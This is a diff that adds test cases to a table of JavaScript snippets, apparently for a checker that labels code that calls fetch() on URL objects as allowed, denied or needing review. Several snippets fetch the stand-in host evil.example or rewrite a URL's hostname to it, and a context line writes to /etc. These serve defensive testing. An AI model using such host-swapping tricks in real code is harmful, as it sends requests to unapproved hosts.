@@ -56,6 +56,35 @@ _SNIPPETS = {
         "const m = new Map(); m.set(key(), '/etc/x')\nrequire('fs').writeFileSync(m.get('q'), '')",
         Verdict.DENY,
     ),
+    "a URL": (
+        "javascript",
+        (
+            "const u = new URL('https://api.github.com/x'); u.search = 'a=1'; fetch(u); fetch(`${u}`);"
+            " fetch(u.toString())"
+        ),
+        Verdict.ALLOW,
+    ),
+    "a URL outside": (
+        "javascript",
+        "const u = new URL('https://evil.example'); fetch(`${u}x`)",
+        Verdict.DENY,
+    ),
+    "a URL relative to another": ("javascript", "fetch(new URL('/x', 'https://evil.example'))", Verdict.DENY),
+    "a URL whose host is set": (
+        "javascript",
+        "const u = new URL('https://api.github.com'); u.hostname = 'evil.example'; fetch(u)",
+        Verdict.REVIEW,
+    ),
+    "a URL of which something is set": (
+        "javascript",
+        "const u = new URL('https://api.github.com'); u[key] = 'evil.example'; fetch(u)",
+        Verdict.REVIEW,
+    ),
+    "a URL that gets the fields of another object": (
+        "javascript",
+        "const u = Object.assign(new URL('https://api.github.com'), JSON.parse(given)); fetch(u)",
+        Verdict.REVIEW,
+    ),
     "an enumeration": (
         "typescript",
         "import * as fs from 'fs'\nenum P { Key = 'data/x' }\nfs.readFileSync(P.Key)",
